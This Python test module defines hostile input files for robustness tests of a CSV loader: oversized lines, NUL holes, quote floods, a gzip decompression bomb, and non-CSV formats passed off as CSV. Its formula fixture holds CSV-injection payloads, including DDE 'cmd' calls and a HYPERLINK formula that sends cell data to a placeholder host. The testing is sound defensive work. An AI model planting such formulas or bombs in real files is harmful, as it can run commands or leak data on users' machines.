"""Files made to exhaust their reader, or that are not CSV at all, at any size.

Each case says how it ends: with a category of error and words that its message must hold, or loaded. The suite
writes the small sizes, ``python -m benchmarks.hostile`` the full ones.
"""

from __future__ import annotations

import gzip
import io
import itertools
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from tests.integration.hostile.detonate import MOST_MB, Outcome

MB = 1 << 20
_CHUNK = 1 << 20
HEADER = b"code,name\n"
ROW = b"01,Graz\n"

Pieces = Callable[[int], Iterator[bytes | int]]
"""The parts of a file for a size: bytes, or a number of bytes for a hole, which reads as NUL and takes no disk."""


@dataclass(frozen=True, slots=True)
class Bomb:
    """One hostile file.

    ``small`` and ``full`` are sizes in ``unit``. ``category`` is that of the error, ``""`` where the file is
    loaded; ``words`` occur in the message, or in a warning of the ledger.
    """

    name: str
    pieces: Pieces
    small: int
    full: int
    unit: str
    category: str
    words: str = ""

    def wrong(self, found: Outcome) -> list[str]:
        """The differences from the expected result, one per line."""
        ended = f"{found.status} {found.category}".strip()
        expected = f"error {self.category}" if self.category else "completed"
        said = f"{found.message} {' '.join(found.warnings)}"
        return [
            *([] if ended == expected else [f"it ended as {ended}, not as {expected}: {found.message}"]),
            *([] if self.words in said else [f"{self.words!r} is not in {said!r}"]),
            *([] if not self.category or "What to do: " in found.message else ["the message gives no advice"]),
            *([] if not self.category or not found.table_made else ["a refused file made a table"]),
            *([] if found.peak_mb < MOST_MB else [f"it took {found.peak_mb:.0f} MB"]),
            *(f"elsewhere: {change}" for change in found.elsewhere),
        ]

    def write(self, path: Path, size: int) -> None:
        """Writes the file."""
        with path.open("wb") as stream:
            for piece in self.pieces(size):
                if isinstance(piece, int):
                    stream.truncate(stream.tell() + piece)
                    stream.seek(piece, io.SEEK_CUR)
                else:
                    stream.write(piece)


def _repeat(text: bytes, times: int) -> Iterator[bytes]:
    """``text`` so many times, in chunks of about a megabyte."""
    each = max(1, _CHUNK // len(text))
    yield from itertools.repeat(text * each, times // each)
    yield text * (times % each)


def _mb(text: bytes, *, before: bytes = b"", after: bytes = b"") -> Pieces:
    """``text`` over and over, for so many megabytes."""
    return lambda size: itertools.chain((before,), _repeat(text, size * MB // len(text)), (after,))


def _times(text: bytes, *, before: bytes = b"", after: bytes = b"") -> Pieces:
    """``text`` so many times."""
    return lambda size: itertools.chain((before,), _repeat(text, size), (after,))


def _hole(*, before: bytes = b"", after: bytes = b"") -> Pieces:
    return lambda size: iter((before, size * MB, after))


def _one(make: Callable[[], bytes]) -> Pieces:
    """A file of one size, made by another program."""
    return lambda size: iter((make(),))


def _columns(size: int) -> Iterator[bytes]:
    names = (",".join(f"c{at}" for at in range(start, min(start + 50_000, size))) for start in range(0, size, 50_000))
    for at, part in enumerate(names):
        yield (b"," if at else b"") + part.encode()
    yield b"\n"
    yield from _repeat(b"1,", size - 1)
    yield b"1\n"


def _twins(size: int) -> Iterator[bytes]:
    yield b",".join([b"name"] * size) + b"\n"
    yield b",".join([b"1"] * size) + b"\n"


def _wide_row(size: int) -> Iterator[bytes]:
    yield HEADER + ROW * 100
    yield from _repeat(b"1,", size)
    yield b"1\n" + ROW * 100


def _zip() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("cities.csv", HEADER + ROW * 100_000)
    return made.getvalue()


def _xlsx() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", "<worksheet/>" * 1000)
    return made.getvalue()


def _parquet() -> bytes:
    made = io.BytesIO()
    pq.write_table(pa.table({"code": ["01"] * 1000, "name": ["Graz"] * 1000}), made)
    return made.getvalue()


def _elf() -> bytes:
    return Path("/proc/self/exe").read_bytes()[: 2 * MB]


def _row(text: str) -> bytes:
    return HEADER + ROW * 20 + text.encode() + b"\n" + ROW * 20


_PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" * 50
_PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\x00\x00\x01\x00\x08\x06" + bytes(range(256)) * 40
_HTML = (
    b"<!DOCTYPE html><html><head><title>Log in</title></head><body><table><tr><td>1,2</td></tr></table></body></html>"
)
_JSON = b'[{"code": "01", "name": "Graz"},\n{"code": "02", "name": "Linz"}]\n' * 50
_UTF16 = (HEADER + b"01,Graz\n02,Linz\n" * 50).decode().encode("utf-16-le")
_FORMULAS = b"code,name,note\n" + b"\n".join(
    b"%03d,Graz,%s" % (number, text)
    for number, text in enumerate(
        (
            b"=cmd|' /C calc'!A0",
            b'"=HYPERLINK(""http://example.invalid/?x=""&A1,""open"")"',
            b"+cmd|' /C calc'!A0",
            b"-2+3+cmd|' /C calc'!A0",
            b"@SUM(1+1)*cmd|' /C calc'!A0",
            b"\t=1+1",
            b"plain",
        )
    )
)

BOMBS = (
    Bomb("one line of text", _mb(b"x"), 20, 5120, "MB", "format"),
    Bomb("one line of commas", _mb(b","), 20, 5120, "MB", "format"),
    Bomb("one line of words", _mb(b"some words and more "), 20, 5120, "MB", "format"),
    Bomb("nothing but NUL bytes", _hole(), 20, 5120, "MB", "format", "empty"),
    Bomb("a line of NUL bytes", _hole(before=HEADER, after=b"\n" + ROW), 20, 5120, "MB", "format"),
    Bomb(
        "a hole between rows",
        _hole(before=HEADER + ROW * 200_000, after=b"\n" + ROW * 200_000),
        20,
        5120,
        "MB",
        "format",
    ),
    Bomb(
        "rows, then a line without an end", _mb(b"x", before=HEADER + ROW * 100_000), 20, 5120, "MB", "format", "16 MiB"
    ),
    Bomb("a row of millions of fields", _wide_row, 12_000_000, 12_000_000, "fields", "format", "16 MiB"),
    Bomb("millions of columns", _columns, 200_000, 10_000_000, "columns", "format", "columns"),
    Bomb("nothing but quotes", _mb(b'"'), 20, 1024, "MB", "format"),
    Bomb(
        "quotes within quotes",
        _mb(b'""', before=HEADER + b'01,"', after=b'"\n' + ROW),
        20,
        1024,
        "MB",
        "format",
        "16 MiB",
    ),
    Bomb("stray quotes in every line", _mb(b'01,"Gr"az\n', before=HEADER), 4, 256, "MB", "data", "damaged"),
    Bomb("each line opens a quote", _mb(b'01,"Graz\n', before=HEADER), 4, 256, "MB", "data"),
    Bomb("a lone quote before everything", _mb(ROW, before=b'"code,name\n'), 20, 512, "MB", ""),
    Bomb(
        "a quote opened behind the header",
        _mb(ROW, before=HEADER + ROW * 9 + b'02,"Linz\n'),
        20,
        1024,
        "MB",
        "format",
        "quote",
    ),
    Bomb("a header of one name", _mb(b"x", after=b",name\n" + ROW * 1000), 20, 100, "MB", "format"),
    Bomb(
        "a header within quotes",
        _mb(b"some name ", before=b'"', after=b'",name\n' + ROW * 1000),
        20,
        100,
        "MB",
        "format",
    ),
    Bomb("nothing but empty lines", _times(b"\n"), 1_000_000, 10_000_000, "lines", "format", "empty"),
    Bomb("empty lines between rows", _times(b"\n", before=HEADER + ROW, after=ROW), 1_000_000, 10_000_000, "lines", ""),
    Bomb("lines of blanks", _times(b"   \n", before=HEADER + ROW, after=ROW), 1_000_000, 10_000_000, "lines", ""),
    Bomb("lines that end in CR alone", _times(b"01,Graz\r", before=b"code,name\r"), 200_000, 10_000_000, "lines", ""),
    Bomb("one quoted field", _mb(b"some text\n", before=b'text\n"', after=b'"\n'), 20, 1024, "MB", "format"),
    Bomb(
        "one quoted field in a row",
        _mb(b"some text\n", before=HEADER + ROW * 99 + b'02,"', after=b'"\n'),
        20,
        1024,
        "MB",
        "format",
        "16 MiB",
    ),
    Bomb("rows just short enough", _mb(b'01,"' + b"y" * (15 * MB) + b'"\n', before=HEADER), 60, 600, "MB", ""),
    Bomb(
        "every row damaged but one",
        _mb(b"01,Graz,x\n", before=HEADER + ROW * 1000),
        3,
        512,
        "MB",
        "data",
        "More than 100000",
    ),
    Bomb(
        "a table of 1,000 empty columns",
        _times(b"," * 999 + b"\n", before=b",".join(b"c%d" % n for n in range(1000)) + b"\n"),
        2_000,
        200_000,
        "rows",
        "",
    ),
    Bomb("a header of one name again and again", _twins, 1_000, 1_000, "columns", ""),
    Bomb("thousands of duplicate names", _twins, 5_000, 100_000, "columns", "format", "columns"),
    Bomb(
        "a trailer with a number of 5,000 digits",
        _one(lambda: HEADER + ROW * 20 + b"9" * 5000 + b" rows in all\n"),
        1,
        1,
        "file",
        "data",
        "damaged",
    ),
    Bomb(
        "a number of 5,000 digits",
        _one(lambda: b"code,amount\n" + b"01," + b"9" * 5000 + b"\n02,1\n"),
        1,
        1,
        "file",
        "",
    ),
    Bomb(
        "a number with an exponent of 9 digits",
        _one(lambda: b"code,amount\n" + b"01,1e999999999\n02,1\n" * 50),
        1,
        1,
        "file",
        "",
    ),
    Bomb("a megabyte of blanks behind a name", _mb(b"code" + b" " * MB + b"x,Graz\n", before=HEADER), 4, 512, "MB", ""),
    Bomb("the header in every other line", _mb(ROW + HEADER, before=HEADER), 1, 128, "MB", "", "again"),
    Bomb("a megabyte of blanks", _one(lambda: _row("02," + " " * MB + "x")), 1, 1, "file", ""),
    Bomb("a megabyte of rules", _one(lambda: _row("-=_*~+ " * (MB // 7) + ",!")), 1, 1, "file", ""),
    Bomb("a megabyte of apostrophes", _one(lambda: _row("02," + "'" * MB)), 1, 1, "file", ""),
    Bomb("a megabyte of backslashes", _one(lambda: _row('02,"' + "\\" * MB + '"')), 1, 1, "file", ""),
    Bomb("a megabyte of grouped digits", _one(lambda: _row('02,"' + "1,234 " * (MB // 6) + '"')), 1, 1, "file", ""),
    Bomb("a megabyte of brackets", _one(lambda: b"[" * MB), 1, 1, "file", "format", "JSON"),
    Bomb("a megabyte of objects", _one(lambda: b'{"a":' * (MB // 5)), 1, 1, "file", "format", "JSON"),
    Bomb("a zip archive", _one(_zip), 1, 1, "file", "format", "ZIP"),
    Bomb("a workbook", _one(_xlsx), 1, 1, "file", "format", "ZIP"),
    Bomb(
        "gzip of a gigabyte",
        lambda size: iter((gzip.compress(b"0" * (size * MB), 9),)),
        16,
        1024,
        "MB",
        "format",
        "gzip",
    ),
    Bomb("parquet", _one(_parquet), 1, 1, "file", "format", "Parquet"),
    Bomb("a PDF document", _one(lambda: _PDF), 1, 1, "file", "format", "PDF"),
    Bomb("a picture", _one(lambda: _PNG), 1, 1, "file", "format", "picture"),
    Bomb("a program", _one(_elf), 1, 1, "file", "format", "program"),
    Bomb("a web page", _one(lambda: _HTML), 1, 1, "file", "format", "HTML"),
    Bomb("JSON", _one(lambda: _JSON), 1, 1, "file", "format", "JSON"),
    Bomb("UTF-16 without a byte order mark", _one(lambda: _UTF16), 1, 1, "file", ""),
    Bomb("UTF-16 without a mark, odd length", _one(lambda: _UTF16 + b"x"), 1, 1, "file", "format"),
    Bomb("spreadsheet formulas", _one(lambda: _FORMULAS), 1, 1, "file", "", "formula"),
)
